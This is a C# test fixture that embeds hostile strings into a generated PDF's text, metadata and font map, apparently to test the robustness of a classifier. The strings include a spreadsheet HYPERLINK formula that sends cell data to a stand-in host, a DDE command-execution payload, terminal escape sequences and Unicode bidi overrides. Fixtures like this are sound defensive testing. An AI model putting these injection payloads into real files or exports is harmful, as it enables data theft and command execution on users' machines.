using System.Globalization;
using System.Text;

namespace Classifier.Tests.Hostile;

/// <summary>Text that a spreadsheet would run, a terminal would obey or a reader would misread.</summary>
internal static class HostileStrings
{
    // Whole clauses, so that they reach the reports as text.
    private static readonly string[] Lines =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Member States shall block the service\")",
        "@SUM(1+1)*cmd|' /C calc'!A0 and Member States shall suspend the internet at once.",
        "+1 Member States shall restrict the publication of statements that offend them.",
        "-1 Member States shall monitor the private messages of every person in the country.",
        "Member States shall \u001b[2J\u001b]0;owned\u0007block all communication that displeases the government.",
        "Member States shall \u202etceles\u202c and \u2066isolate\u2069 the messages of all persons.",
        "Member States shall\0 cut\u0000 off the access of journalists \u009b31m to the network\u0085 without a court.",
    ];

    /// <summary>The strings as printed text (by way of the font's map to Unicode), as the file's metadata, and as its outline.</summary>
    public static byte[] Printed()
    {
        char[] characters = [.. string.Concat(Lines).Distinct().Order()];
        string map = $"begincmap 1 begincodespacerange <00> <FF> endcodespacerange {characters.Length} beginbfchar "
            + string.Concat(characters.Select((c, code) => string.Create(CultureInfo.InvariantCulture, $"<{code + 1:x2}> <{(int)c:x4}> "))) + "endbfchar endcmap";
        StringBuilder content = new();
        for (int i = 0; i < Lines.Length; i++)
        {
            string codes = string.Concat(Lines[i].Select(c => string.Create(CultureInfo.InvariantCulture, $"{Array.IndexOf(characters, c) + 1:x2}")));
            content.Append(CultureInfo.InvariantCulture, $"BT /F 9 Tf 60 {750 - 40 * i} Td <{codes}> Tj ET ");
        }
        string title = string.Concat(Lines.SelectMany(line => Encoding.BigEndianUnicode.GetBytes(line)).Select(b => $"{b:x2}"));
        RawPdf pdf = new() { Trailer = $"/Info << /Title <feff{title}> /Author <feff{title}> /Subject (\\033[31m=1+1) >>" };
        int unicode = pdf.AddStream("", map);
        int font = pdf.Add($"<< /Type /Font /Subtype /TrueType /BaseFont /Odd /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 >> /ToUnicode {unicode} 0 R /FirstChar 0 /LastChar 255 /Widths [{string.Join(' ', Enumerable.Repeat("500", 256))}] >>");
        return pdf.Bytes(pdf.AddPage(pdf.AddStream("", content.ToString()), $"/Font << /F {font} 0 R >>"));
    }
}
